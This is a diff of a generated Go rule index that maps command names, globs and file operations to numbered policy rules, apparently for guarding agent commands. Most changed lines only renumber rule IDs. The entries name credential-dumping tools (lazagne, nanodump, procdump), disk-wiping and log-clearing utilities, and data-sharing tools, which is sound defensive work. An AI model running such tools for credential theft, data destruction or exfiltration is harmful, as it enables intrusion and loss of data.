 			nameEntry{
 				Name:    "vulture",
@@ -17086,12 +17179,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wal-e",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "wal-g",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "wandb",
@@ -17132,17 +17225,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "waypoint",
 				Program: 61,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "wbadmin",
 				Program: 64,
-				Rules:   []uint16{186, 227},
+				Rules:   []uint16{190, 231},
 			},
 			nameEntry{
 				Name:    "wbadmin.exe",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "wc",
@@ -17159,12 +17252,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "weaviate",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "webfsd",
 				Program: -1,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "webpack",
@@ -17177,17 +17270,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "werf",
 				Program: -1,
-				Rules:   []uint16{161, 176},
+				Rules:   []uint16{165, 180},
 			},
 			nameEntry{
 				Name:    "wevtutil",
 				Program: -1,
-				Rules:   []uint16{206, 360},
+				Rules:   []uint16{210, 364},
 			},
 			nameEntry{
 				Name:    "wezterm",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "wg",
@@ -17201,7 +17294,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wget",
 				Program: 53,
-				Rules:   []uint16{292},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "wget2",
@@ -17210,7 +17303,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wgetpaste",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name: "whereis",
@@ -17238,22 +17331,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "windsurf",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "winget",
 				Program: 44,
-				Rules:   []uint16{343, 363},
+				Rules:   []uint16{347, 367},
 			},
 			nameEntry{
 				Name:    "wipe",
 				Program: 23,
-				Rules:   []uint16{211},
+				Rules:   []uint16{215},
 			},
 			nameEntry{
 				Name:    "wipefs",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "wireit",
@@ -17270,17 +17363,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wl-paste",
 				Program: 64,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "wmic",
 				Program: 64,
-				Rules:   []uint16{186, 227},
+				Rules:   []uint16{190, 231},
 			},
 			nameEntry{
 				Name:    "wmic.exe",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "workmux",
@@ -17289,21 +17382,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wormhole",
 				Program: 56,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "wp",
 				Program: 48,
-				Rules:   []uint16{106},
+				Rules:   []uint16{110},
 			},
 			nameEntry{
 				Name:    "wrangler",
 				Program: 61,
-				Rules:   []uint16{18, 27, 37, 124, 146, 148, 280, 290},
+				Rules:   []uint16{18, 27, 37, 128, 150, 152, 284, 294},
 			},
 			nameEntry{
 				Name:    "wrk",
 				Program: 36,
+				Rules:   []uint16{59},
 			},
 			nameEntry{
 				Name:    "wscat",
@@ -17312,17 +17406,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wscript",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "wscript.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "wsl",
 				Program: -1,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "wslpath",
@@ -17331,7 +17425,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wtype",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "xargs",
@@ -17340,12 +17434,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xata",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "xattr",
 				Program: 23,
-				Rules:   []uint16{224},
+				Rules:   []uint16{228},
 			},
 			nameEntry{
 				Name:    "xbps-install",
@@ -17354,12 +17448,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xbps-remove",
 				Program: -1,
-				Rules:   []uint16{363},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "xclip",
 				Program: 64,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "xcodebuild",
@@ -17376,12 +17470,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xdotool",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "xe",
 				Program: -1,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "xelatex",
@@ -17390,7 +17484,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xh",
 				Program: 54,
-				Rules:   []uint16{292},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "xhs",
@@ -17423,7 +17517,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xsel",
 				Program: 64,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "xsv",
@@ -17432,7 +17526,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xtrabackup",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "xxd",
@@ -17457,7 +17551,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "yarn",
 				Program: 39,
-				Rules:   []uint16{28, 94, 95, 96, 97, 98, 99, 101, 102, 105, 123, 147, 148, 285, 286, 296, 297, 306},
+				Rules:   []uint16{28, 98, 99, 100, 101, 102, 103, 105, 106, 109, 127, 151, 152, 289, 290, 300, 301, 310},
 			},
 			nameEntry{
 				Name:    "yarn-typeorm",
@@ -17474,12 +17568,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "yc",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "ydotool",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name: "yes",
@@ -17503,12 +17597,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "yum",
 				Program: 44,
-				Rules:   []uint16{343},
+				Rules:   []uint16{347},
 			},
 			nameEntry{
 				Name:    "zappa",
 				Program: 61,
-				Rules:   []uint16{122, 124},
+				Rules:   []uint16{126, 128},
 			},
 			nameEntry{
 				Name:    "zcat",
@@ -17517,7 +17611,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zeabur",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "zed",
@@ -17526,12 +17620,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zellij",
 				Program: 63,
-				Rules:   []uint16{370},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "zfs",
 				Program: 64,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "zgrep",
@@ -17544,7 +17638,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zip",
 				Program: 24,
-				Rules:   []uint16{38, 225},
+				Rules:   []uint16{38, 229},
 			},
 			nameEntry{
 				Name:    "zipinfo",
@@ -17557,7 +17651,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zkCli.sh",
 				Program: -1,
-				Rules:   []uint16{90},
+				Rules:   []uint16{94},
 			},
 			nameEntry{
 				Name:    "zless",
@@ -17566,22 +17660,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zmap",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "zpool",
 				Program: 64,
-				Rules:   []uint16{186, 210},
+				Rules:   []uint16{190, 214},
 			},
 			nameEntry{
 				Name:    "zrok",
 				Program: -1,
-				Rules:   []uint16{282},
+				Rules:   []uint16{286},
 			},
 			nameEntry{
 				Name:    "zsh",
 				Program: 4,
-				Rules:   []uint16{301, 302, 346, 347},
+				Rules:   []uint16{305, 306, 350, 351},
 			},
 			nameEntry{
 				Name:    "zstd",
@@ -17590,7 +17684,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zypper",
 				Program: 44,
-				Rules:   []uint16{343, 363},
+				Rules:   []uint16{347, 367},
 			},
 		},
 		Globs: []nameEntry{nameEntry{
@@ -17611,7 +17705,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "drizzle-kit@*",
 				Program: -1,
-				Rules:   []uint16{96, 97},
+				Rules:   []uint16{100, 101},
 			},
 			nameEntry{
 				Name:    "fsck.*",
@@ -17629,37 +17723,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "k3s-uninstall*",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "kafka-acls*",
 				Program: -1,
-				Rules:   []uint16{108},
+				Rules:   []uint16{112},
 			},
 			nameEntry{
 				Name:    "kafka-consumer-groups*",
 				Program: -1,
-				Rules:   []uint16{107, 108},
+				Rules:   []uint16{111, 112},
 			},
 			nameEntry{
 				Name:    "kafka-delete-records*",
 				Program: -1,
-				Rules:   []uint16{108},
+				Rules:   []uint16{112},
 			},
 			nameEntry{
 				Name:    "kafka-storage*",
 				Program: -1,
-				Rules:   []uint16{108},
+				Rules:   []uint16{112},
 			},
 			nameEntry{
 				Name:    "kafka-topics*",
 				Program: -1,
-				Rules:   []uint16{107, 108},
+				Rules:   []uint16{111, 112},
 			},
 			nameEntry{
 				Name:    "kubectl-*",
 				Program: -1,
-				Rules:   []uint16{153},
+				Rules:   []uint16{157},
 			},
 			nameEntry{
 				Name:    "lazagne*",
@@ -17684,7 +17778,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mkfs.*",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "nanodump*",
@@ -17694,12 +17788,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "onionshare*",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "prisma@*",
 				Program: -1,
-				Rules:   []uint16{94, 95, 96},
+				Rules:   []uint16{98, 99, 100},
 			},
 			nameEntry{
 				Name:    "procdump*",
@@ -17740,37 +17834,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zkCli*",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "zookeeper-shell*",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 		},
 		File: []opEntry{opEntry{
 			Op:    "read",
-			Rules: []uint16{7, 8, 9, 10, 13, 50, 114, 273},
+			Rules: []uint16{7, 8, 9, 10, 13, 50, 118, 277},
 		},
 			opEntry{
 				Op:    "write",
-				Rules: []uint16{203, 205, 209, 222, 274, 308, 309, 310, 311, 354, 355, 365, 367},
+				Rules: []uint16{207, 209, 213, 226, 278, 312, 313, 314, 315, 358, 359, 369, 371},
 			},
 			opEntry{
 				Op:    "append",
-				Rules: []uint16{203, 205, 209, 222, 274, 308, 309, 310, 311, 354, 355, 365, 367},
+				Rules: []uint16{207, 209, 213, 226, 278, 312, 313, 314, 315, 358, 359, 369, 371},
 			},
 			opEntry{
 				Op:    "truncate",
-				Rules: []uint16{93, 187, 188, 190, 192, 195, 202, 203, 204, 205, 208, 209, 214, 310, 354, 355, 365, 367, 378},
+				Rules: []uint16{97, 191, 192, 194, 196, 199, 206, 207, 208, 209, 212, 213, 218, 314, 358, 359, 369, 371, 382},
 			},
 			opEntry{
 				Op:    "delete",
-				Rules: []uint16{93, 187, 188, 189, 190, 191, 192, 193, 194, 195, 196, 197, 198, 199, 200, 201, 202, 203, 204, 205, 208, 209, 310, 355, 365, 367, 378},
+				Rules: []uint16{97, 191, 192, 193, 194, 195, 196, 197, 198, 199, 200, 201, 202, 203, 204, 205, 206, 207, 208, 209, 212, 213, 314, 359, 369, 371, 382},
 			},
 			opEntry{
 				Op:    "move",
-				Rules: []uint16{11, 39, 189, 190, 191, 192, 202, 203, 204, 205, 208, 308, 309, 310, 311, 355, 365, 367, 378},
+				Rules: []uint16{11, 39, 193, 194, 195, 196, 206, 207, 208, 209, 212, 312, 313, 314, 315, 359, 369, 371, 382},
 			},
 			opEntry{
 				Op:    "copy",
@@ -17782,26 +17876,26 @@ var shipped = Set{
 			},
 			opEntry{
 				Op:    "send",
-				Rules: []uint16{267, 268, 269, 289},
+				Rules: []uint16{271, 272, 273, 293},
 			},
 			opEntry{
 				Op:    "chmod",
-				Rules: []uint16{217, 220, 367, 377},
+				Rules: []uint16{221, 224, 371, 381},
 			},
 			opEntry{
 				Op: "list",
 			},
 			opEntry{
 				Op:    "run",
-				Rules: []uint16{298},
+				Rules: []uint16{302},
 			},
 		},
-		HTTP:    []uint16{30, 31, 32, 33, 35, 51, 52, 53, 54, 55, 56, 57, 58, 59, 60, 65, 66, 67, 68, 71, 72, 73, 270, 271, 279, 294, 295},
-		GraphQL: []uint16{34, 61, 62, 63, 64},
-		SQL:     []uint16{74, 75, 76, 77, 78, 79, 80, 81, 82, 83, 86},
+		HTTP:    []uint16{30, 31, 32, 33, 35, 51, 52, 53, 54, 55, 56, 57, 60, 61, 62, 63, 68, 69, 70, 71, 74, 75, 76, 274, 275, 283, 298, 299},
+		GraphQL: []uint16{34, 64, 65, 66, 67},
+		SQL:     []uint16{77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 90},
 		Search:  []uint16{0, 1, 2, 3, 4, 5},
 		Env:     []uint16{14, 16},
-		Form:    []uint16{339, 340, 341, 342},
+		Form:    []uint16{343, 344, 345, 346},
 		Paths: []pathIndex{pathIndex{
 			Named: []namedGlob{namedGlob{
 				Name: ".aider.conf.yml",
